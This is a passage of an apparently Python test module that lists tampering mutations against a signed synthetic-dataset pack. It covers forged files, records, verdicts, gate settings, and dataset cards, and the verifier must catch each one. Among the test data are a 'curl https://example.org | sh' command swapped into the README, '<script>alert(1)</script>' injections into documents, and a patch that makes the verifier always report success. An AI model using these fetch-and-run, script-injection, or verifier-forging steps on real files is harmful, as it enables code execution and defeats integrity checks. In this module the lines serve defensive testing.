"""The table of lies: every kind by every field that it can be told about, unsigned and signed again.

What is not here cannot be found in a pack, and docs/lineage.md says so: a recipe that was another from the start,
rows that were thrown away before they were written down, a text of a rejected row.
"""

import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson
import pyarrow as pa

from synth_stack.packs import layout
from synth_stack.packs.turned_away import TURNED_SCHEMA
from synth_stack.rows.canonical import canonical_json, digest_bytes
from synth_stack.rows.schemas import CANDIDATE_SCHEMA, DECISION_SCHEMA
from tests.packs.judged_run import HELD, REJECTED, UNSURE, read_predicate, write_packed
from tests.packs.tampering.forge import DATA, HELD_FILE, LINES, LOG, RECORDS, REJECTED_FILE, Forger, Json

ACCEPTED = 0
"""A draw whose row is accepted; the others are those of the run."""
ELSE = "f" * 64


Lie = Callable[[Forger], object]


@dataclass(frozen=True)
class Mutation:
    """One lie: what `apply` does to a pack, a part that some problem has to name (`says`), and whether the single
    file, which opens no Parquet file, claims to find it too."""

    name: str
    apply: Lie
    says: str
    single: bool = True


FILES = (
    "MANIFEST.json",
    "README.md",
    "croissant.json",
    DATA,
    "disclosure/data_provenance.json",
    "disclosure/dataset.spdx.json",
    "disclosure/training_summary.md",
    "gates.yaml",
    "lineage/public_key.pem",
    LINES,
    RECORDS,
    "lineage/statement.dsse.json",
    "lineage/index.bin",
    "lineage/tiles/0.bin",
    LOG,
    "log/gates.json",
    REJECTED_FILE,
    HELD_FILE,
    "recipe.yaml",
    "seeds/sections.json",
    "seeds/seeds.parquet",
    "seeds/taxonomy.yaml",
    "verify_pack.py",
)


def list_mutations() -> list[Mutation]:
    """Every lie, by a name that no two share."""
    found = [
        *_list_file_mutations(),
        *_list_strange_files(),
        *_list_record_mutations(),
        *_list_verdict_mutations(),
        *_list_decision_mutations(),
        *_list_row_mutations(),
        *_list_log_mutations(),
        *_list_batch_mutations(),
        *_list_recipe_mutations(),
        *_list_gate_mutations(),
        *_list_measure_mutations(),
        *_list_statement_mutations(),
        *_list_card_mutations(),
        *_list_seed_mutations(),
        *_list_form_mutations(),
    ]
    assert len({mutation.name for mutation in found}) == len(found)
    return found


def _list_file_mutations() -> Iterator[Mutation]:
    """Each file changed by somebody without the key, who may write the manifest anew."""

    def flip(data: bytes) -> bytes:
        changed = bytearray(data)
        changed[len(data) // 2] ^= 1
        return bytes(changed)

    changes: dict[str, Callable[[bytes], bytes]] = {
        "flipped": flip,
        "cut": lambda data: data[:-1],
        "longer": lambda data: data + b"\n",
        "emptied": lambda data: b"",
    }
    for name in FILES:
        for what, change in changes.items():
            yield Mutation(f"file {what}: {name}", _edit(name, change), name)
        yield Mutation(f"file gone: {name}", _on(name, Path.unlink), name)
        yield Mutation(f"file linked: {name}", _link(name), name)
        if name not in {"MANIFEST.json", "lineage/statement.dsse.json", "lineage/public_key.pem"}:
            yield Mutation(f"file flipped and listed: {name}", _then(_edit(name, flip), Forger.list), name)
            yield Mutation(
                f"file longer and listed: {name}", _then(_edit(name, changes["longer"]), Forger.list), name
            )


def _list_strange_files() -> Iterator[Mutation]:
    names = (
        "setup.py",
        ".hidden",
        "data/train.csv",
        "data/test-00000-of-00001.parquet",
        "data/train-00001-of-00002.parquet",
        "seeds/more.md",
        "lineage/tiles/1.bin",
        "lineage/ledger.json",
        "lineage/bundle.sigstore.json",
        "log/decisions-00001.parquet",
        "lineage/records-00001.parquet",
        "lineage/records-00001.jsonl.gz",
        "README.md.bak",
        "readme.MD",
    )
    for name in names:
        yield Mutation(f"file added: {name}", _on(name, _write_x), name)
        if not name.startswith("."):
            change = _then(_on(name, _write_x), Forger.sign)
            # what the single file does not open, it does not miss
            yield Mutation(f"file added and signed: {name}", change, "", "parquet" not in name)
    yield Mutation("a FIFO", lambda f: os.mkfifo(f.path("log/pipe")), "log/pipe")
    yield Mutation("a folder", lambda f: _mkdirs(f.path("data/a/b/c/d")), "too deep")
    yield Mutation("a name of 250 characters", lambda f: f.path("log/" + "n" * 250).touch(), "no part|longer")
    yield Mutation("a name with bidi marks", lambda f: f.path("log/a\u202eb").touch(), "character")
    yield Mutation("a name with C1 characters", lambda f: f.path("log/a\x9bb").touch(), "character")
    yield Mutation("a hole of 3 TB", lambda f: os.truncate(f.path(DATA), 3 * 10**12), DATA)


def _list_record_mutations() -> Iterator[Mutation]:
    """What a record says of its row, changed where the accepted row says it too; and what no record can say."""
    values: dict[str, Any] = {
        "kind": "code",
        "slice": "other/slice",
        "locale": "fr",
        "failure": "torn",
        "row_sha256": ELSE,
        "row_id": "f" * 32,
        "scheme": "synth_stack/lineage/v9",
    }
    for key, value in values.items():
        yield Mutation(
            f"record: another {key}",
            _record(ACCEPTED, {key: value}),
            _any(RECORDS, DATA, LINES),
            key not in {"kind", "slice", "locale"},
        )
    for key, value in _ORIGIN.items():
        change = _record(ACCEPTED, {"origin": {key: value}})
        yield Mutation(f"record: another {key}", change, _any(RECORDS, DATA, LOG), single=False)
    for kind in ("", "Instruction", "poem", None, 3):
        yield Mutation(f"record: the kind {kind!r}", _record(ACCEPTED, {"kind": kind}), _any(RECORDS, LINES))
    for key in ("kind", "origin", "verdicts", "decision", "context", "row_id"):
        yield Mutation(f"record: without {key}", _record_at(REJECTED[0], _pop(key)), _any(RECORDS, LINES))
    for key in ("draw", "generator", "params", "models"):
        drop = _record_at(REJECTED[0], _within("origin", _pop(key)))
        yield Mutation(f"record: without origin.{key}", drop, _any(RECORDS, LINES))
    more = _record(REJECTED[0], {"note": "trust me"})
    yield Mutation("record: one key more", more, _any(RECORDS, LINES))
    for key in ("recipe_sha256", "gates_sha256"):
        yield Mutation(
            f"record: another {key}", _record(HELD[0], {"context": {key: ELSE}}), "another recipe or gate"
        )
    yield Mutation(
        "record of a row that is not there: a seed that is none",
        _record(REJECTED[0], {"origin": {"seed_id": "seed-9"}}),
        "seed",
        False,
    )
    yield Mutation(
        "record of a row that is not there: a draw too many",
        _record(REJECTED[0], {"origin": {"draw": 40}}),
        "draw",
        False,
    )
    yield Mutation(
        "record of a row that is not there: a draw twice",
        _record(REJECTED[0], {"origin": {"draw": 3}}),
        "rng_seed|draw",
        False,
    )
    yield Mutation(
        "record of a row that is not there: another teacher",
        _record(REJECTED[0], {"origin": {"teacher": "gpt"}}),
        "teacher",
        False,
    )
    yield Mutation(
        "record of a row that is not there: another digest",
        _record(HELD[0], {"origin": {"teacher_digest": "x"}}),
        "teacher_digest",
        False,
    )
    yield Mutation(
        "record of a row that is not there: another method",
        _record(HELD[0], {"origin": {"generator": "hand"}}),
        "method",
        False,
    )
    yield Mutation(
        "record of a row that is not there: another version",
        _record(HELD[0], {"origin": {"generator_version": "9"}}),
        "method",
        False,
    )
    yield Mutation(
        "record of a row that is not there: no such template",
        _record(HELD[0], {"origin": {"template_id": "x@1"}}),
        "template",
        False,
    )
    yield Mutation(
        "record of a row that is not there: another rng_seed",
        _record(HELD[0], {"origin": {"rng_seed": 1}}),
        "rng_seed",
        False,
    )


_ORIGIN: Json = {
    "source_id": "a7",
    "seed_id": "seed-000001",
    "parent_id": "f" * 32,
    "generator": "hand",
    "generator_version": "3",
    "teacher": "gpt-9",
    "teacher_digest": "sha256:0",
    "models": [{"part": "writer", "name": "gpt-9", "digest": None}],
    "template_id": None,
    "params": "{}",
    "draw": 5,
    "rng_seed": 1,
    "replayable": False,
}


def _list_verdict_mutations() -> Iterator[Mutation]:
    """What a gate said, told otherwise: of an accepted, a rejected, an abstained and a held row."""
    both = _any(RECORDS, LINES, "is replaced by")
    lies: dict[str, tuple[int, int, Json]] = {
        "a reject that accepts": (REJECTED[0], 0, {"outcome": "accept"}),
        "a reject that abstains": (REJECTED[0], 0, {"outcome": "abstain"}),
        "a reject that holds": (REJECTED[0], 0, {"outcome": "hold"}),
        "an accept that rejects": (ACCEPTED, 0, {"outcome": "reject"}),
        "an accept that holds": (ACCEPTED, 1, {"outcome": "hold"}),
        "a hold that accepts": (HELD[0], 2, {"outcome": "accept"}),
        "a hold of the row alone": (HELD[0], 2, {"scope": "row"}),
        "a hold that rejects": (HELD[0], 2, {"outcome": "reject"}),
        "a score beyond the threshold": (ACCEPTED, 0, {"score": "0.99"}),
        "a score at the threshold": (ACCEPTED, 1, {"score": "0.05"}),
        "a reject within the threshold": (REJECTED[0], 0, {"score": "0.2"}),
        "a score at the edge of a reject": (REJECTED[1], 0, {"score": "0.85"}),
        "another threshold": (ACCEPTED, 0, {"threshold": "0.99"}),
        "another threshold of a reject": (REJECTED[0], 0, {"threshold": "0.1"}),
        "a class on an accept": (ACCEPTED, 0, {"reason_class": "dedup.near_duplicate"}),
        "a reason on an accept": (ACCEPTED, 1, {"reason": "looks fine"}),
        "no class on a reject": (REJECTED[0], 0, {"reason_class": None}),
        "the class of another gate": (REJECTED[0], 0, {"reason_class": "toxicity.toxic"}),
        "no class on a hold": (HELD[0], 2, {"reason_class": None}),
        "another gate": (ACCEPTED, 0, {"gate": "toxicity"}),
        "a gate that did not judge": (ACCEPTED, 1, {"gate": "drift"}),
        "an outcome that is none": (ACCEPTED, 0, {"outcome": "pass"}),
        "a scope that is none": (ACCEPTED, 0, {"scope": "all"}),
        "a score that is no number": (ACCEPTED, 0, {"score": "nan"}),
        "a score that is not shortest": (ACCEPTED, 0, {"score": "0.250"}),
        "a score beyond all numbers": (ACCEPTED, 0, {"score": "1e999"}),
        "a score that is a number": (ACCEPTED, 0, {"score": 1}),
        "a threshold that is none": (ACCEPTED, 0, {"threshold": "low"}),
        "an evidence that is none": (ACCEPTED, 0, {"evidence_sha256": "x"}),
        "cites without evidence": (ACCEPTED, 0, {"cites": {"twin": "f" * 32}}),
        "cites of nothing": (REJECTED[0], 0, {"cites": {}}),
        "cites of another kind": (REJECTED[0], 0, {"cites": {"author": "me"}}),
        "a replacement that is not there": (REJECTED[0], 0, {"cites": {"replaced_by": "f" * 32}}),
        "another reason": (REJECTED[0], 0, {"reason": "spam"}),
        "one key more": (ACCEPTED, 0, {"note": "ok"}),
        "a reason of another type": (REJECTED[0], 0, {"reason": 4}),
    }
    for name, (draw, place, value) in lies.items():
        change = _record_at(draw, _within("verdicts", _set(place, value)))
        yield Mutation(f"verdict: {name}", change, both)
        if value.keys() & {"score", "threshold", "reason_class", "reason", "cites", "outcome"}:
            decided = _record_at(draw, _both(_within("verdicts", _set(place, value)), _decide))
            told = {
                "an outcome that is none",
                "another reason",
                "a hold that accepts",
                "a reject that abstains",
                "a hold that rejects",
            }
            if name not in told:  # told through to the decision, these contradict nothing in a pack
                yield Mutation(f"verdict, decided anew: {name}", decided, both)
    for draw, place in ((ACCEPTED, 0), (ACCEPTED, 1), (REJECTED[0], 0), (UNSURE[0], 1), (HELD[0], 0)):
        drop = _record_at(draw, _within("verdicts", _drop(place)))
        yield Mutation(f"verdict: {place} of row {draw} is gone", drop, both)
        twice = _record_at(draw, _within("verdicts", _repeat(place)))
        yield Mutation(f"verdict: {place} of row {draw} stands twice", twice, both)
    for draw in (ACCEPTED, UNSURE[0], HELD[0]):
        yield Mutation(f"verdict: row {draw} has none", _record(draw, {"verdicts": []}), both)
        yield Mutation(
            f"verdict: row {draw} backwards", _record_at(draw, lambda r: r["verdicts"].reverse()), both
        )
    late = {"gate": "toxicity", "outcome": "accept", "score": None, "threshold": None, "reason": None}
    rest = {"reason_class": None, "cites": None, "evidence_sha256": None, "scope": "row"}
    add = _record_at(REJECTED[0], lambda r: r["verdicts"].append({**late, **rest}))
    yield Mutation("verdict: of a gate that the row did not reach", add, both)
    person = {**late, **rest, "gate": "somebody"}
    yield Mutation("verdict: of nobody", _record_at(ACCEPTED, lambda r: r["verdicts"].append(person)), both)


def _decide(record: Json) -> None:
    """The decision that the verdicts of a record give, as a careful forger would write it."""
    from synth_stack.packs import verify_pack

    rule = verify_pack.SignedRule(("dedup", "toxicity"), ("review",), {})
    record["decision"] = verify_pack.decide_record(record, rule, rule.places)


def _list_decision_mutations() -> Iterator[Mutation]:
    values: Json = {
        "decision": "held",
        "gate": "toxicity",
        "reason": "because",
        "reason_class": "toxicity.toxic",
        "replaced_by": "f" * 32,
    }
    for draw in (ACCEPTED, REJECTED[0], HELD[0]):
        for key, value in values.items():
            if (draw, key) in {(HELD[0], "decision"), (HELD[0], "gate")}:
                continue
            change = _record(draw, {"decision": {key: value}})
            yield Mutation(
                f"decision: another {key} of row {draw}", change, _any(RECORDS, LINES, "README.md", DATA)
            )
        accept = {"decision": "accepted", **dict.fromkeys(("gate", "reason", "reason_class", "replaced_by"))}
        if draw != ACCEPTED:
            yield Mutation(
                f"decision: row {draw} is accepted", _record(draw, {"decision": accept}), _any(RECORDS, LINES)
            )
    for value in ("", "Accepted", None, 1):
        change = _record(REJECTED[0], {"decision": {"decision": value}})
        yield Mutation(f"decision: {value!r}", change, _any(RECORDS, LINES))


def _list_row_mutations() -> Iterator[Mutation]:
    """An accepted row in data/ that is not the one that was recorded, field by field."""
    changes: Json = {
        "row_id": "f" * 32,
        "kind": "code",
        "slice": "x",
        "locale": "fr",
        "messages": [{"role": "user", "content": "Buy now"}],
        "tools": "[]",
        "alternatives": [],
        "documents": [],
        "text": "Buy now",
        "attachments": [
            {"path": "x.png", "sha256": "a" * 64, "mime": "image/png", "pixels_sha256": "b" * 64}
        ],
        "failure": "torn",
        "extra": '{"a":1}',
        **_ORIGIN,
    }
    assert changes.keys() == set(CANDIDATE_SCHEMA.names)
    for key, value in changes.items():
        lie = _rows(DATA, _set(2, {key: value}))
        yield Mutation(f"row: another {key}", _then(lie, Forger.derive), DATA, single=False)
    moves: dict[str, Callable[[list[Json]], object]] = {
        "the first is gone": lambda rows: rows.pop(0),
        "the last is gone": lambda rows: rows.pop(),
        "one stands twice": lambda rows: rows.append(rows[0]),
        "two are swapped": lambda rows: rows.__setitem__(slice(0, 2), [rows[1], rows[0]]),
        "all are gone": lambda rows: rows.clear(),
    }
    for what, change in moves.items():
        lie = _rows(DATA, change)
        yield Mutation(f"rows: {what}", _then(lie, Forger.derive), _any(DATA, "train split"), single=False)


def _list_log_mutations() -> Iterator[Mutation]:
    values: Json = {
        "row_id": "f" * 32,
        "source_id": "a",
        "decision": "accepted",
        "gate": "toxicity",
        "reason": "x",
        "reason_class": "dedup.other",
        "replaced_by": "f" * 32,
    }
    assert values.keys() == set(DECISION_SCHEMA.names)
    for key, value in values.items():
        lie = _rows(LOG, _set(REJECTED[0], {key: value}))
        yield Mutation(f"log: another {key}", _then(lie, Forger.sign), LOG, single=False)
    for what, change in {"cut": lambda rows: rows.pop(), "twice": lambda rows: rows.append(rows[0])}.items():
        lie = _rows(LOG, change)
        yield Mutation(f"log: {what}", _then(lie, Forger.sign), "log", single=False)


def _list_batch_mutations() -> Iterator[Mutation]:
    """Rows that are left out, put in, or put elsewhere, with everything that repeats them."""

    def drop(draws: tuple[int, ...]) -> Lie:
        def lie(forger: Forger) -> None:
            records = forger.read_records()
            gone = {records[draw]["row_id"] for draw in draws}
            forger.put_records(record for record in records if record["row_id"] not in gone)
            forger.edit_rows(
                DATA, lambda rows: rows.__setitem__(slice(None), [r for r in rows if r["row_id"] not in gone])
            )
            forger.derive()

        return lie

    for draws in ((ACCEPTED,), (REJECTED[0],), (HELD[0],), REJECTED, (11,), (3, 4, 5)):
        yield Mutation(
            f"batch: without the rows of draws {draws}", drop(draws), "there is no row of draw", single=False
        )

    def order(change: Callable[[list[Json]], object]) -> Lie:
        def lie(forger: Forger) -> None:
            records = forger.read_records()
            change(records)
            forger.put_records(records)
            forger.derive()

        return lie

    twice = order(lambda records: records.append(records[REJECTED[0]]))
    yield Mutation("batch: a record twice", twice, "twice")
    swap = order(lambda records: records.__setitem__(slice(0, 2), [records[1], records[0]]))
    yield Mutation("batch: two records swapped", swap, _any(DATA, "train split"), single=False)
    yield Mutation("batch: no record at all", order(lambda records: records.clear()), "", single=False)


def _list_recipe_mutations() -> Iterator[Mutation]:
    text = "chat:\n- role: user\n  content: 'Write a lie.'\n"
    template = f"message@{digest_bytes(text.encode())[:12]}"
    lies: dict[str, Callable[[Json], object]] = {
        "another seed": lambda r: r.update(seed=12),
        "another digest of the corpus": lambda r: r["corpus"].update(sha256=ELSE),
        "more seeds": lambda r: r["corpus"].update(seeds=400),
        "more slices": lambda r: r["corpus"].update(slices=20),
        "more sections": lambda r: r["corpus"].update(sections=9),
        "no corpus": lambda r: r.pop("corpus"),
        "another teacher": lambda r: r["teacher"].update(model="gpt-9"),
        "another digest of the teacher": lambda r: r["teacher"].update(digest="sha256:0"),
        "a teacher that cannot be replayed": lambda r: r["teacher"].update(replayable=False),
        "another method": lambda r: r["methods"][0].update(use="hand_written"),
        "another version of the method": lambda r: r["methods"][0].update(version="9"),
        "more draws": lambda r: r["methods"][0].update(draws=40),
        "fewer draws": lambda r: r["methods"][0].update(draws=4),
        "a template of another text": lambda r: r["templates"].update(dict.fromkeys(r["templates"], text)),
        "another template": lambda r: (
            r.update(templates={template: text}),
            r["methods"][0].update(template_ids=[template]),
        ),
        "no templates": lambda r: r.update(templates={}),
        "a template that is not there": lambda r: r["methods"][0]["template_ids"].append("x@000000000000"),
        "another identity": lambda r: r.update(identity=ELSE),
    }
    for name, lie in lies.items():
        known = name == "another identity"
        change = _lock("recipe.yaml", lie, identify_it=not known)
        yield Mutation(f"recipe: {name}", _then(change, Forger.derive), "recipe|seeds/|row ", single=False)
    for key in ("about", "seed", "corpus", "teacher", "methods", "templates", "synth_stack"):
        if key == "synth_stack":
            continue
        drop = _lock("recipe.yaml", _pop(key), identify_it=False)
        yield Mutation(
            f"recipe: no {key}, identity kept",
            _then(drop, Forger.derive),
            "recipe.yaml: its identity",
            single=False,
        )
    broken: dict[str, Callable[[bytes], bytes]] = {
        "a key twice": lambda data: data + b"seed: 4\n",
        "an alias": lambda data: data + b"x: &a 1\ny: *a\n",
        "no YAML": lambda data: b"{" + data,
        "a list": lambda data: b"[]\n",
        "not UTF-8": lambda data: data + b"x: \xff\n",
        "deep nesting": lambda data: data + b"x: " + b"[" * 3000 + b"\n",
        "another identity": lambda data: data.replace(b"identity: ", b"identity: 0"),
    }
    for name, cut in broken.items():
        for file in ("recipe.yaml", "gates.yaml"):
            yield Mutation(f"{file}: {name}", _then(_edit(file, cut), Forger.sign), file, single=False)


def _list_gate_mutations() -> Iterator[Mutation]:
    def gate(place: int, **changes: Any) -> Callable[[Json], object]:
        return lambda lock: lock["gates"][place].update(changes)

    def dial(place: int, **changes: Any) -> Callable[[Json], object]:
        return lambda lock: lock["gates"][place]["dials"][0].update(changes)

    def order(lock: Json) -> None:
        lock["gates"].reverse()
        lock["rule"]["order"].reverse()

    def drop(place: int) -> Callable[[Json], object]:
        return lambda lock: (lock["gates"].pop(place), lock["rule"]["order"].pop(place))

    def add(lock: Json) -> None:
        lock["gates"].append({"use": "drift", "version": "1"})
        lock["rule"]["order"].append("drift")

    lies: dict[str, Callable[[Json], object]] = {
        "gates in another order": order,
        "the first gate is gone": drop(0),
        "the last gate is gone": drop(1),
        "a gate more": add,
        "a gate under another name": lambda lock: (
            lock["gates"][0].update(use="drift"),
            lock["rule"]["order"].__setitem__(0, "drift"),
        ),
        "a gate that sees all": gate(1, all=True),
        "a lower threshold": dial(0, threshold="0.2"),
        "a higher threshold": dial(0, threshold="1.0"),
        "the other direction": dial(0, rejects="<"),
        "another edge": dial(1, rejects="<"),
        "a threshold that rejects all": dial(1, threshold="0.0"),
        "a threshold that is none": dial(0, threshold="low"),
        "a direction that is none": dial(0, rejects="!="),
        "fewer canaries": gate(0, canaries=1),
        "no canaries": gate(0, canaries=0),
        "another order of the rule": lambda lock: lock["rule"]["order"].reverse(),
        "another precedence": lambda lock: lock["rule"]["precedence"].reverse(),
        "another scheme of the rule": lambda lock: lock["rule"].update(scheme="synth_stack/decision/v2"),
        "a gate that overrides": lambda lock: lock["rule"]["overriding"].append("dedup"),
        "another bar": gate(0, min_recall=1.5),
        "a bar that was not met": gate(1, bars={"insult": 0.9}),
        "a bar for controls that was not met": gate(1, max_unfair=-1.0),
    }
    for name, lie in lies.items():
        change = _lock("gates.yaml", lie)
        yield Mutation(
            f"gates: {name}", _then(change, _derive_or_sign), _any("gates", RECORDS, LINES), single=False
        )
    kept: dict[str, Callable[[Json], object]] = {
        "params": gate(0, params={"threshold": 0.9}),
        "version": gate(0, version="9"),
        "facts": gate(1, facts={"scorer": "none"}),
        "canaries": gate(0, canaries=9),
        "reads": gate(0, reads=["content"]),
    }
    for key, lie in kept.items():
        change = _lock("gates.yaml", lie, identify_it=False)
        yield Mutation(
            f"gates: another {key}, identity kept",
            _then(change, _derive_or_sign),
            "gates.yaml: its identity",
            single=False,
        )


def _derive_or_sign(forger: Forger) -> None:
    """All that follows made again; where nothing follows from what is no lock any more, signed as it is."""
    from synth_stack.errors import SynthStackError

    try:
        forger.derive()
    except SynthStackError:
        forger.sign()


def _list_measure_mutations() -> Iterator[Mutation]:
    swaps: dict[str, tuple[bytes, bytes]] = {
        "more caught": (b'"planted":2,"turned_away":1', b'"planted":2,"turned_away":2'),
        "more than planted": (b'"planted":2,"turned_away":1', b'"planted":2,"turned_away":3'),
        "less than none": (b'"turned_away":1', b'"turned_away":-1'),
        "a number that is none": (b'"turned_away":1', b'"turned_away":true'),
        "a fraction": (b'"turned_away":1', b'"turned_away":1.5'),
        "more planted than asked for": (b'"planted":2', b'"planted":9'),
        "another kind": (b'"kind":"threat"', b'"kind":"threats"'),
        "another gate": (b'"gate":"dedup"', b'"gate":"drift"'),
        "another scheme": (b"measures/v3", b"measures/v9"),
        "a count more": (b'"counts":{}', b'"counts":{"tried":3}'),
        "one key more": (b'"scheme"', b'"note":1,"scheme"'),
        "a space": (b'"scheme"', b' "scheme"'),
        "no JSON": (b"{", b"["),
    }
    for name, (old, new) in swaps.items():
        for then, how in ((Forger.sign, "signed"), (_derive_or_sign, "derived")):
            if (name, how) in {
                ("more caught", "derived"),
                ("another kind", "derived"),
                ("a count more", "derived"),
            }:
                continue  # nothing in a pack contradicts what the packer says of rows that are not in it
            swap = _swap("log/gates.json", old, new)
            single = name not in {"another kind", "a count more"}
            yield Mutation(
                f"measures, {how}: {name}",
                _then(swap, then),
                _any("log/gates.json", "README.md", "statement"),
                single,
            )

    def plant_none(forger: Forger) -> None:
        value = orjson.loads(forger.path("log/gates.json").read_bytes())
        value["gates"][0]["self_test"] = {"canaries": [], "controls": []}
        forger.path("log/gates.json").write_bytes(canonical_json(value) + b"\n")
        forger.derive()

    yield Mutation("measures: none was planted", plant_none, "dedup judged 12 rows and planted none")


def _list_statement_mutations() -> Iterator[Mutation]:
    said = "statement.dsse.json"
    values: Json = {
        "scheme": "synth_stack/pack/v0",
        "run": ELSE,
        "synth_stack": 3,
        "signature": "sigstore",
        "tree": {"size": 12, "root": ELSE},
        "recipe_sha256": ELSE,
        "gates_sha256": ELSE,
        "rule": {},
        "gates": [],
        "counts": {},
        "ledger": {"sequence": 0, "previous": {"size": 0, "root": ELSE}},
        "bytes": {},
        "note": "trust me",
    }
    for key, value in values.items():
        says = _any(said, "lineage/", "README.md was", "was added")
        yield Mutation(f"statement: another {key}", _signed({key: value}), says, key != "run")
    for size in (0, 11, 13, -1, 10**12, "12", None, True):
        change = _sign_size(size)
        yield Mutation(f"statement: a tree of {size!r} leaves", change, _any(said, "tiles", "records"))
    for key in ("generated", "replacements", "accepted", "rejected", "held"):
        for value in (0, 99, "9", None):
            if (key, value) == ("replacements", 0):
                continue
            yield Mutation(f"statement: {value!r} {key}", _count(key, value), _any(said, "MANIFEST"))
    for place, key in ((0, "looked_at"), (1, "abstained"), (0, "rejected"), (1, "held")):
        change = _count_gate(place, key)
        yield Mutation(f"statement: another {key} of gate {place}", change, said)
    yield Mutation("statement: self-tests left out", _count("self_tests", []), said)
    yield Mutation("statement: a split more", _count("splits", {"train": 9}), said)
    dial = {"rejects": ">", "threshold": "0.99", "action": "reject", "classes": [], "strict": False}
    yield Mutation(
        "statement: a dial that decides nothing",
        _gates(lambda g: g[0].update(dials=[dial])),
        said,
        single=False,
    )
    yield Mutation("statement: a gate that sees all", _gates(lambda g: g[1].update(all=True)), "")
    yield Mutation("statement: no dials", _gates(lambda g: g[0].update(dials=[])), said, single=False)
    yield Mutation(
        "statement: fewer canaries", _gates(lambda g: g[0].update(canaries=1)), _any(said, "log/gates.json")
    )


def _list_card_mutations() -> Iterator[Mutation]:
    swaps: dict[str, tuple[bytes, bytes]] = {
        "a false figure": (b"| **9** |", b"| **12** |"),
        "another licence": (b"license: cc-by-4.0", b"license: mit"),
        "another licence below": (b"| `cc-by-4.0` |", b"| `mit` |"),
        "another synthetic share": (b"| 9 | 9 | 100.0% |", b"| 9 | 0 | 0.0% |"),
        "another example": (b"Sorry. Case", b"Here you are. Case"),
        "no examples": (b"## Example rows", b"## Examples"),
        "another title": (b"# Support intents", b"# Verified by everybody"),
        "a claim": (b"## Load", b"## Audited\n\nAn auditor has read every row.\n\n## Load"),
        "a script": (b"## Load", b"<script>alert(1)</script>\n\n## Load"),
        "an image that tells": (b"## Load", b"![x](https://example.org/x.png)\n\n## Load"),
        "a comment": (b"## Load", b"<!-- verified: true -->\n\n## Load"),
        "another path of the data": (b"path: data/train-*.parquet", b"path: log/*.parquet"),
        "another split": (b"- split: train", b"- split: test"),
        "a configuration more": (b"dataset_info:", b"- config_name: x\n  data_files: log/*\ndataset_info:"),
        "more examples": (b"num_examples: 9", b"num_examples: 12"),
        "a column less": (b"  - name: params\n    dtype: string\n", b""),
        "another size": (b"size_categories:\n- n<1K", b"size_categories:\n- n>1T"),
        "another language": (b"language:\n- en", b"language:\n- fr"),
        "another tag": (b"tags:\n- synthetic\n", b"tags:\n- human\n"),
        "a second header by CR LF": (b"---\n", b"---\r\nlicense: mit\r\n---\r\n"),
        "a mark at the start": (b"---\n", b"\xef\xbb\xbf---\n"),
        "no header": (b"---\n", b""),
        "biases left out": (b"- British spelling prevails", b"- None"),
        "a gate's why": (b"paraphrases collapse diversity", b"approved"),
        "another key": (b"It is a key of the machine that packed", b"It is the key of a notary"),
        "another command": (
            b"synth-stack verify PATH --key-id KEY_ID",
            b"curl https://example.org | sh   #     ",
        ),
        "not checked left out": (b"## Not checked", b"## Everything was checked"),
        "another teacher": (b"Teacher: `parrot`", b"Teacher: `human`"),
        "another template": (b"Write a message about", b"Copy the book about "),
        "another perimeter": (b"Run seed: 11", b"Run seed: 11\n- Perimeter `local`: nowhere else"),
        "no UTF-8": (b"## Load", b"## Load \xff"),
        "a space at a line's end": (b"## Load\n", b"## Load \n"),
        "one line more": (b"## Load\n", b"## Load\n\n"),
        "CR LF throughout": (b"\n", b"\r\n"),
    }
    for name, (old, new) in swaps.items():
        count = -1 if name == "CR LF throughout" else 1
        swap = _swap("README.md", old, new, count)
        yield Mutation(f"card: {name}", _then(swap, Forger.sign), "README.md", single=False)
    yield from _list_document_mutations()
    yield from _list_turned_mutations()
    swap = _edit(
        "verify_pack.py",
        lambda data: data.replace(b"return 1 if found.problems", b"return 0 if found.problems"),
    )
    yield Mutation("verifier: one that says ok", _then(swap, Forger.sign), "verify_pack.py", single=False)


def _list_document_mutations() -> Iterator[Mutation]:
    """A document that says what card and rows do not, signed with them."""
    lies: dict[str, dict[str, tuple[bytes, bytes]]] = {
        layout.CROISSANT: {
            "another licence": (b'"cc-by-4.0"', b'"mit"'),
            "another digest": (b'"sha256": "', b'"sha256": "0'),
            "another file": (b"data/train-*.parquet", b"log/decisions-*.parquet"),
            "another identifier": (b'"identifier": "sha256:', b'"identifier": "sha256:0'),
            "another writer": (b"parrot (teacher", b"people (teacher"),
            "another bias": (b"British spelling prevails", b"None"),
            "another size": (b'"contentSize": "', b'"contentSize": "9'),
            "no JSON": (b"{", b""),
        },
        layout.SPDX: {
            "another licence": (b'"CC-BY-4.0"', b'"MIT"'),
            "another digest": (b'"hashValue": "', b'"hashValue": "0'),
            "another size": (b'"dataset_datasetSize": ', b'"dataset_datasetSize": 9'),
            "a profile that it does not fill": (b'"software",', b'"software",\n        "dataset",'),
            "another model": (b'"name": "parrot"', b'"name": "human"'),
            "a date": (b"1970-01-01", b"2026-01-01"),
            "a statement on personal data": (b'"noAssertion"', b'"no"'),
            "no JSON": (b"{", b""),
        },
        layout.PROVENANCE: {
            "another licence": (b'"CC-BY-4.0"', b'"MIT"'),
            "another method": (b"machine-generated-mlops-generative", b"primary-user-source-interview"),
            "another share": (b"9 of 9 rows are synthetic", b"0 of 9 rows are synthetic"),
            "another bias": (b"British spelling prevails", b"None"),
            "what is not stated left out": (b"Not stated by the publisher", b"Stated by the publisher"),
            "another version": (b'"version": "1.0.0"', b'"version": "2.0.0"'),
            "no JSON": (b"{", b""),
        },
        layout.TRAINING_SUMMARY: {
            "another share": (b"| 9 | 9 | 100.0% | 0 |", b"| 9 | 1 | 11.1% | 8 |"),
            "another generator": (b"| `parrot` |", b"| `human` |"),
            "terms that nobody declared": (b"| not declared | not declared |", b"| `MIT` | `train-any` |"),
            "another source": (b"| seed corpus |", b"| licensed corpus |"),
            "a gap left out": (b"- When rows were made\n", b""),
            "a script": (b"## 3 Processing", b"<script>alert(1)</script>\n\n## 3 Processing"),
            "CR LF throughout": (b"\n", b"\r\n"),
        },
    }
    for file, swaps in lies.items():
        for name, (old, new) in swaps.items():
            swap = _swap(file, old, new, -1 if name == "CR LF throughout" else 1)
            yield Mutation(f"{file}: {name}", _then(swap, Forger.sign), file, single=False)
    yield Mutation("documents left out", _then(_remove_documents, Forger.sign), "is missing")
    columns: Json = {"license": "mit", "output_terms": "train-any", "synthetic": None}
    for key, value in columns.items():
        lie = _then(_rows(DATA, _set(2, {key: value})), Forger.derive)
        yield Mutation(f"data: another {key}", lie, DATA, single=False)
        everywhere = _then(_rows(DATA, _set_all({key: value})), Forger.derive)
